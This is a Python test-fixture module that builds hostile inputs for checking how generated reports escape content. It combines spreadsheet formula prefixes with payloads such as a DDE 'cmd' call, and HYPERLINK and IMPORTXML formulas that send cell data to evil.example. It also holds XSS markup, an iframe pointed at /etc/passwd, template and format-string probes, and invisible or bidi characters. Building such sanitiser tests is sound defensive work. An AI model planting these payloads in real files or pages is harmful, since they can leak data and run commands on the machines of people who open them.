"""Texts that mean harm to whoever opens a report: formulas, markup, signs that hide."""

from __future__ import annotations

import itertools

FORMULA_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "＝",
    "＋",
    "－",
    "＠",
    "\t",
    "\r",
    "  @",
    "=+",
    "-@",
)
FORMULA_ENDS = (
    "1+1", "cmd|'/c calc'!A1", 'HYPERLINK("http://evil.example/?"&A1,"x")', "SUM(A1:A9)", "WEBSERVICE(A1)",
    'IMPORTXML("http://evil.example","//a")', "DDE(\"cmd\";\"/c calc\")", "2+3;=4", '1","=2', "A1\n=B1",
    "RTD(,)", "'=1", '"', "<b>1</b>",
)  # fmt: skip
FORMULAS = tuple(start + end for start, end in itertools.product(FORMULA_STARTS, FORMULA_ENDS))
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>', "</td></table><h1>x",
    "</style><script>1</script>", "<!-- x", "]]>", "&lt;b&gt;", "&#60;b&#62;", "<a href='javascript:1'>x</a>",
    "<iframe src=file:///etc/passwd>", "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>", "[x](javascript:1)", "![x](http://evil.example/p.png)",
    "<http://evil.example>",
    "http://evil.example", "www.evil.example", "mailto:a@b.example", "a@b.example", "| a | b |", "\\| a", "`code`",
    "**b**", "# head", "---", "1. one", "> quote", "~~gone~~", "$x^2$", "[^1]", "[ref]: http://evil.example", "&amp;",
    "{{7*7}}",
    "%s%n", "\x00", "a\x00b", "\x07bell", "\x1b[31mred",
    "\u202eevil", "a\u2028b", "\ufeffx", "\ud800", "_x000D_", "_x0041_",
    "\u200bzero", "e\u0301", "👩‍🚒", "א" * 40, "x" * 40_000, "line\nline", "a\r\nb", "tab\tb", "\u2066iso\u2069",
)  # fmt: skip
HOSTILE = (*FORMULAS, *MARKUP)
